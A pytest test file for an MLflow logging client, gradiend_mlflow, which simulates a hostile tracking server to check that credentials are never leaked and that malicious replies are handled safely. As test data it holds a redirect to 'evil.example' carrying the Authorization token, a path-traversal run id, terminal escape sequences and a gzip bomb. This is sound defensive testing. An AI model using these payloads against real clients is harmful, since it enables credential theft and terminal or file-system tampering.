"""A server that a training logs to and that means harm: nothing goes elsewhere, and nothing secret is said."""

from __future__ import annotations

import base64
import gzip
import json
import logging
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mlflow.tracking._tracking_service import utils

import gradiend_mlflow
from gradiend_mlflow import StoreError
from gradiend_mlflow.delivery.journals.records import Destination
from gradiend_mlflow.delivery.recorder import Recorder
from gradiend_mlflow.store.store import Store
from tests.store.test_secrets import everything_said
from tests.support.checkpoints import make_model
from tests.support.hostile import Answer, HostileServer, Request, endless, hostile_server, reply, run_of
from tests.support.logs import warned
from tests.support.sampling import quick

TOKEN, PASSWORD = "T0KEN-99", "S3CRET-99"
PACKED = base64.b64encode(f"me:{PASSWORD}".encode()).decode()
BOMB = gzip.compress(bytes(80_000_000), 1)
EXPERIMENT = {"experiment": {"experiment_id": "0", "name": "e", "lifecycle_stage": "active"}}
USUAL: dict[str, Any] = {
    "experiments/get": EXPERIMENT,
    "runs/create": {"run": run_of()},
    "runs/log-batch": {},
    "runs/update": {"run_info": run_of()["info"]},
    "mlflow-artifacts": {},
}


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileServer]:
    """It knows all that a training asks for."""
    monkeypatch.setenv("GRADIEND_MLFLOW_DEADLINE", "1")
    utils._artifact_repos_cache.clear()  # by the id of a run, which is the same on every such server
    with hostile_server() as server:
        for part, content in USUAL.items():
            server.answers[part] = lambda request, content=content: reply(request, content)
        yield server


def train(uri: str, folder: Path) -> None:
    """All that a training sends."""
    recorder = Recorder(Store(uri, once=True), folder / "runs")
    run = recorder.start("live", {"a": "b"}, Destination(experiment_name="e"))
    run.params({"p": "1"})
    run.metrics(1, {"m": 1.0})
    (folder / "file.txt").write_text("content")
    run.upload([folder / "file.txt"], "gradiend")
    run.end("FINISHED")
    recorder.close(3)


def answer_with(server: HostileServer, part: str, answer: Answer) -> None:
    """Answer what the path has in its own way, before all others."""
    server.answers = {part: answer, **{key: value for key, value in server.answers.items() if key != part}}


def written(folder: Path) -> str:
    """The content of all files but MLflow's own."""
    return "".join(file.read_text() for file in (folder / "runs").rglob("*") if file.is_file())


def with_id(run_id: str) -> dict[str, Any]:
    """A new run of this id."""
    return {"run": run_of(run_id=run_id)}


ANSWERS: dict[str, tuple[str, Any]] = {
    "upwards": ("runs/create", with_id("../../../etc")),
    "a terminal's": ("runs/create", with_id("\x1b[2J'")),
    "a long id": ("runs/create", with_id("a" * 1_000_000)),
    "a list": ("runs/create", [1]),
    "null": ("runs/create", None),
    "depth": ("runs/create", b"[" * 1_000_000),
    "no JSON": ("runs/create", b"<html>"),
    "no end": ("runs/create", endless(b"x" * 65536)),
    "no end of a file": ("mlflow-artifacts", endless(b"x" * 65536)),
    "a bomb": ("runs/create", lambda request: reply(request, BOMB, Content_Encoding="gzip")),
}


@pytest.mark.parametrize(("part", "content"), ANSWERS.values(), ids=ANSWERS.keys())
def test_absurd_answers(
    part: str,
    content: Any,
    server: HostileServer,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """One warning says what came; everything stays in the journal, and nothing acts on the terminal."""
    answer_with(server, part, content if callable(content) else lambda request: reply(request, content))
    train(server.uri, tmp_path)
    assert not any("etc" in path for _, path, _ in server.requests)
    assert '"is":"EndRun"' in written(tmp_path)
    ours = warned(caplog)
    assert ours[0].startswith("Logging to MLflow failed; the training goes on. could not ") or "no id" in ours[0]
    assert all(len(message) < 900 for message in ours)
    assert "\x1b" not in caplog.text + capfd.readouterr().out


def test_a_name_does_not_act_on_the_terminal(
    server: HostileServer, tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """MLflow's own line would print the name that a server answers, and ours does not."""
    caplog.set_level(logging.INFO, logger="gradiend_mlflow")
    run = run_of()
    run["info"]["run_name"] = "\x1b]0;title\x07evil\n\x1b[31mline"
    server.runs = [run]
    train(server.uri, tmp_path)
    assert "is FINISHED in MLflow: " in caplog.text
    said = caplog.text + capfd.readouterr().out
    assert "evil" not in said
    assert "\x1b" not in said


@pytest.mark.parametrize("how", ["redirect", "artifacts", "link to artifacts"])
def test_nothing_goes_elsewhere(how: str, server: HostileServer, tmp_path: Path) -> None:
    """Neither a record nor a file, and no token."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.settimeout(0.3)
        uri = f"http://127.0.0.1:{elsewhere.getsockname()[1]}"
        if how == "artifacts":
            server.runs = [run_of(artifact_uri=f"{uri}/a")]
        else:
            part = "runs/create" if how == "redirect" else "mlflow-artifacts"
            answer_with(server, part, lambda request: reply(request, b"", status=307, Location=f"{uri}/a"))
        train(server.uri, tmp_path)
        with pytest.raises(TimeoutError):
            elsewhere.accept()
    assert '"is":"Upload"' in written(tmp_path)


def test_no_file_is_written_where_a_server_says(server: HostileServer, tmp_path: Path) -> None:
    """Artifacts in files are those of local stores."""
    server.runs = [run_of(artifact_uri=f"file://{tmp_path}/planted")]
    train(server.uri, tmp_path)
    assert not (tmp_path / "planted").exists()


def echo(status: int) -> Answer:
    """All headers, and the password unpacked, in the text of a fault."""

    def answer(request: Request) -> None:
        sent = request.headers.get("Authorization") or ""
        told = base64.b64decode(sent.removeprefix("Basic ")).decode() if sent.startswith("Basic ") else ""
        message = json.dumps({"error_code": "INVALID_PARAMETER_VALUE", "message": f"bad header {sent} {told}"})
        reply(request, message.encode(), status=status)

    return answer


def redirect(request: Request) -> None:
    """To an address with what was sent in it."""
    sent = (request.headers.get("Authorization") or "").rpartition(" ")[2]
    reply(request, b"", status=302, Location=f"http://evil.example/?t={sent}")


@pytest.mark.parametrize("how", quick(["settings", "token", "address"], first=1))
@pytest.mark.parametrize("answer", [echo(400), echo(401), echo(500), redirect, None])
def test_what_was_sent_is_not_said(
    how: str,
    answer: Answer | None,
    server: HostileServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Whoever repeats it: neither in errors, with all that hangs on them, nor in log lines, journals and reports."""
    caplog.set_level(logging.DEBUG)
    uri = server.uri
    if how == "token":
        monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", TOKEN)
    elif how == "settings":
        monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "me")
        monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", PASSWORD)
    else:
        uri = uri.replace("http://", f"http://me:{PASSWORD}@")
    if answer is None:  # a token in an address that is refused
        secret = TOKEN if how == "token" else PASSWORD
        server.runs = [run_of(artifact_uri=f"hdfs://elsewhere/{secret}/{PACKED if how != 'token' else ''}")]
    else:
        server.answers = {"": answer}
    train(uri, tmp_path)
    frame = gradiend_mlflow.sync(tmp_path, tracking_uri=uri, progress=False)
    model = make_model([("layer.0.query", (20, 5), "all")])
    with pytest.raises(StoreError) as raised:
        gradiend_mlflow.log_topk(model, run_id="a" * 32, tracking_uri=uri)
    said = everything_said(raised.value) + frame.to_string() + written(tmp_path)
    said += "".join(caplog.handler.format(record) for record in caplog.records)
    assert server.requests[-1][2] in (f"Bearer {TOKEN}", f"Basic {PACKED}")
    assert [secret for secret in (TOKEN, PASSWORD, PACKED) if secret in said] == []
    assert "***" in said


def test_a_token_that_is_no_header(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that was read from a file, with the end of its line: requests quotes it when it refuses it."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", f"{TOKEN}\n")
    with pytest.raises(StoreError, match=r"Bearer \*\*\*") as raised:
        gradiend_mlflow.search_runs("e", tracking_uri="http://127.0.0.1:9")
    assert TOKEN not in everything_said(raised.value)
